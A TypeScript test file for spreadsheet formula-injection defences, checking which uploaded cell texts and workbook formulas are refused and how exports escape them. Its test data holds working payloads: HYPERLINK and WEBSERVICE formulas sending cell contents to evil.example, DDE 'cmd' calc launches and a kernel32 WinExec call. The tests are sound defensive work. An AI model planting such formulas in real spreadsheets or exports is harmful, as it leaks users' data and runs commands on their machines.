import { describe, expect, it } from 'vitest';
import { escapeFormulaText, isFormulaText, isOutwardFormula } from './spreadsheet-formulas.ts';

describe('isFormulaText (what an upload refuses)', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?leak="&A1,"RC0603")',
    '=1+1',
    '=cmd',
    '==1',
    '\t=WEBSERVICE("http://evil.example")',
    '  =1',
    '\r\n=1',
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '@SUM(A1)',
    '+HYPERLINK("http://evil.example")',
    '-Sheet2!A1',
    '+_xlfn.WEBSERVICE("x")',
  ])('refuses %j', (text) => {
    expect(isFormulaText(text)).toBe(true);
  });

  it.each([
    '-5',
    '+5V',
    '-40~85℃',
    '-40°C to +85°C (industrial)',
    '+86 138 0013 8000',
    '+/-5%',
    '-',
    '--',
    '=',
    '==========',
    '= = = -- ==',
    '-2+3',
    '@25V',
    'R1-R4',
    '10k = 1%',
    '客户 = 张三',
    '',
  ])('keeps %j (data, or nothing a spreadsheet would call)', (text) => {
    expect(isFormulaText(text)).toBe(false);
  });
});

describe('isOutwardFormula (a workbook formula an upload refuses)', () => {
  it.each([
    'HYPERLINK("http://evil.example/?leak="&A1,"RC0603")',
    'hyperlink("x")',
    '_xlfn.WEBSERVICE("http://evil.example/"&C2)',
    'IF(A1>0,WEBSERVICE("http://evil.example"),0)',
    'RTD("server",,"topic")',
    'CALL("kernel32","WinExec","JCJ","calc",0)',
    'IMPORTXML("http://evil.example","//a")',
    'IMAGE("http://evil.example/pixel.png")',
    "cmd|' /C calc'!A0",
    '[1]Sheet1!A1',
  ])('refuses %j', (formula) => {
    expect(isOutwardFormula(formula)).toBe(true);
  });

  it.each([
    'SUM(A2:A62)',
    'IF($D$76*A2<10,$D$76*A2*I2,IF($D$76*A2<100,$D$76*A2*J2,$D$76*A2*K2))',
    'CONCAT("1","0k")',
    'CONCAT("a|b","HYPERLINK(x)")',
    'Sheet2!A1*2',
    'Table1[@Qty]*Table1[@Price]',
    'MYHYPERLINK2(A1)',
  ])('keeps %j (stays inside the workbook)', (formula) => {
    expect(isOutwardFormula(formula)).toBe(false);
  });
});

describe('escapeFormulaText (what every export writes)', () => {
  it.each([
    ['=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'],
    ['+1 555', "'+1 555"],
    ['-2+3', "'-2+3"],
    ['-40~85℃', "'-40~85℃"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1', "'\r=1"],
    ['BF20261125-000001', 'BF20261125-000001'],
    ['客户 = 张三', '客户 = 张三'],
    ['—', '—'],
    ['', ''],
  ])('writes %j as %j', (text, cell) => {
    expect(escapeFormulaText(text)).toBe(cell);
  });
});
